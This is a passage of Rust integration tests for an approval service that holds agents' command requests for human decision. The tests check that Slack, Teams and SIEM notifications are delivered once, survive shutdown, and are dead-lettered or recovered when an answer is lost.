        if delivered.len() >= REQUESTS {
            break delivered;
        }
        assert!(
            start.elapsed() < Duration::from_mins(2),
            "{} of {REQUESTS} events delivered",
            delivered.len()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let mut got: Vec<String> = delivered
        .iter()
        .map(|c| c.body["id"].as_str().unwrap().to_owned())
        .collect();
    got.sort();
    ids.sort();
    assert_eq!(got.len(), ids.len(), "no event twice");
    assert!(got == ids, "every decision's event, once");
    println!(
        "{REQUESTS} decisions while the receiver was down: all delivered once after it came back, in {:?}",
        start.elapsed()
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(standin.ok_calls("hook:siem", |_| true).len(), REQUESTS);
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn notices_queued_at_shutdown_are_still_sent() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let mut ids = Vec::new();
    let mut answers = Vec::new();
    for n in 0..5 {
        let request = exec_request(&["curl", &format!("https://{n}.example")]);
        ids.push(request.id);
        answers.push(submit(&link, request));
    }
    for id in &ids {
        standin
            .wait_for("chat.postMessage", 1, for_request(*id))
            .await;
    }
    // A slow Slack: every update takes 200 ms, so most are still queued at the stop.
    standin.delay("chat.update", Duration::from_millis(200));
    for id in &ids {
        api_post(
            &harness,
            "alice",
            &format!("/api/v1/requests/{id}/decision"),
            json!({"verdict": "deny"}),
        )
        .await;
    }
    for handle in answers {
        assert_eq!(answer(handle).await.verdict, Verdict::Deny);
    }
    harness.stop().await;
    for id in &ids {
        assert_eq!(
            standin.ok_calls("chat.update", for_request(*id)).len(),
            1,
            "request {id}'s message was updated before the service stopped"
        );
    }
    assert_eq!(standin.violations(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_teams_card_whose_answer_is_lost_is_dead_lettered_not_posted_twice() {
    let (standin, addr) = StandIn::start().await;
    // The workflow posts the card, then the connection breaks before its answer.
    standin.drop_answer("teams", 1);
    let secrets = tempfile::tempdir().unwrap();
    let dir = secrets.path().display().to_string();
    let extra: NotifyConfig = toml::from_str(&format!(
        "[teams]\nworkflow_url = {{ file = \"{dir}/teams-url\" }}\n"
    ))
    .expect("teams config");
    let notify = NotifyConfig {
        teams: extra.teams,
        ..notify_toml(secrets.path(), addr)
    };
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let request = exec_request(&["curl", "https://teams-lost.example"]);
    let id = request.id;
    let pending = submit(&link, request);
    standin.wait_for("teams", 1, for_request(id)).await;

    // Whether the card is there cannot be known, so it is not posted again: it waits in the
    // dead letters for an operator, named as such.
    let store = gatekeep_server::store::SqliteStore::open(
        harness.data_dir().join("state.db"),
        gatekeep_server::store::Synchronous::Normal,
    )
    .expect("the service's database");
    let started = std::time::Instant::now();
    let letter = loop {
        let letters = store.dead_letters(10).await.expect("dead letters");
        if let Some(letter) = letters.into_iter().find(|l| l.letter.sink == "teams") {
            break letter;
        }
        assert!(
            started.elapsed() < support::PATIENCE,
            "no dead letter for the lost card"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert!(
        letter.letter.key.contains(&id.to_string()) && letter.letter.error.contains("unknown"),
        "{letter:?}"
    );
    assert_eq!(
        letter.letter.attempts, 2,
        "the lost call, then the refusal to repeat it"
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    let cards = standin
        .calls()
        .into_iter()
        .filter(|c| c.method == "teams" && for_request(id)(&c.body))
        .count();
    assert_eq!(cards, 1, "posted once");

    // Deciding still works, and Slack (a channel that can be read back) is unaffected.
    api_post(
        &harness,
        "alice",
        &format!("/api/v1/requests/{id}/decision"),
        json!({"verdict": "allow", "reason": "teams was flaky"}),
    )
    .await;
    assert_eq!(answer(pending).await.verdict, Verdict::Allow);
    standin.wait_for("chat.update", 1, for_request(id)).await;
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slack_post_whose_answer_is_lost_is_found_again_not_posted_twice() {
    let (standin, addr) = StandIn::start().await;
    // Slack posts the first message, then the connection breaks: the service never hears
    // the `ts` and cannot tell whether it was posted.
    standin.drop_answer("chat.postMessage", 1);
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let request = exec_request(&["curl", "https://lost.example"]);
    let id = request.id;
    let pending = submit(&link, request);

    // The retry looks the message up by its metadata instead of posting again.
    let looked = standin
        .wait_for("conversations.history", 1, |b| b["channel"] == "C0AGENTS")
        .await;
    let query = &looked[0].body;
    assert_eq!(query["include_all_metadata"], "true", "{query}");
    assert!(
        query["oldest"]
            .as_str()
            .is_some_and(|t| t.parse::<f64>().is_ok()),
        "a bounded window: {query}"
    );
    let posts = standin.ok_calls("chat.postMessage", for_request(id));
    assert_eq!(posts.len(), 1, "posted once: {posts:#?}");
    assert_eq!(
        posts[0].body["metadata"],
        json!({"event_type": "gatekeep_request",
               "event_payload": {"request_id": id.to_string(), "shows": "pending:0"}})
    );

    api_post(
        &harness,
        "alice",
        &format!("/api/v1/requests/{id}/decision"),
        json!({"verdict": "allow", "reason": "found again"}),
    )
    .await;
    assert_eq!(answer(pending).await.verdict, Verdict::Allow);
    let updates = standin.wait_for("chat.update", 1, for_request(id)).await;
    tokio::time::sleep(Duration::from_millis(300)).await;

    let messages = standin.messages("C0AGENTS");
    println!(
        "stand-in: {} message(s) in C0AGENTS, {} post(s), {} history lookup(s), {} update(s)",
        messages.len(),
        standin.ok_calls("chat.postMessage", for_request(id)).len(),
        standin.ok_calls("conversations.history", |_| true).len(),
        standin.ok_calls("chat.update", for_request(id)).len(),
    );
    assert_eq!(messages.len(), 1, "exactly one message: {messages:#?}");
    assert_eq!(messages[0].updates, 1, "updated once, on the decision");
    assert_eq!(
        updates[0].body["ts"],
        messages[0].ts.as_str(),
        "the adopted ts"
    );
    assert!(
        messages[0]
            .text
            .as_str()
            .is_some_and(|t| t.contains("Approved")),
        "{:?}",
        messages[0].text
    );
    assert_eq!(
        standin.ok_calls("chat.postMessage", for_request(id)).len(),
        1
    );
    assert_eq!(standin.ok_calls("chat.update", for_request(id)).len(), 1);
    std::fs::write(
        examples_dir().join("slack-history.json"),
        serde_json::to_string_pretty(&looked[0].body).unwrap(),
    )
    .unwrap();
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}
